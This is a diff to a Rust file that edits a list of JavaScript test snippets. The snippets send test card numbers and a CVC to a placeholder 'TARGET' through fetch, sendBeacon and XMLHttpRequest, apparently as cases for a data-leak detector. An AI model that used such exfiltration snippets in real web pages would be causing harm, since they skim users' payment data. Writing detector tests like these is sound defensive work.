@@ -22,7 +22,7 @@ const LEAKS: [(&str, &str); 15] = [
     ("headers", "fetch('TARGET', {headers: {'x-card': '4242-4242-4242-4242'}})"),
     ("body", "fetch('TARGET', {method: 'POST', body: 'a=b&cvc=739'})"),
     ("body", "fetch('TARGET', {method: 'POST', body: new Blob(['{\"cvc\":\"739\"}'])})"),
-    ("body", "fetch('TARGET', {method: 'POST', body: 'x'.repeat(2000000) + ' 739'})"),
+    ("body", "fetch('TARGET', {method: 'POST', body: 'x'.repeat(100000) + ' 739'})"),
     ("body", "navigator.sendBeacon('TARGET', 'number=4242+4242+4242+4242')"),
     ("body", "const r = new XMLHttpRequest(); r.open('POST', 'TARGET'); r.send(new URLSearchParams({a: '739'}))"),
     (
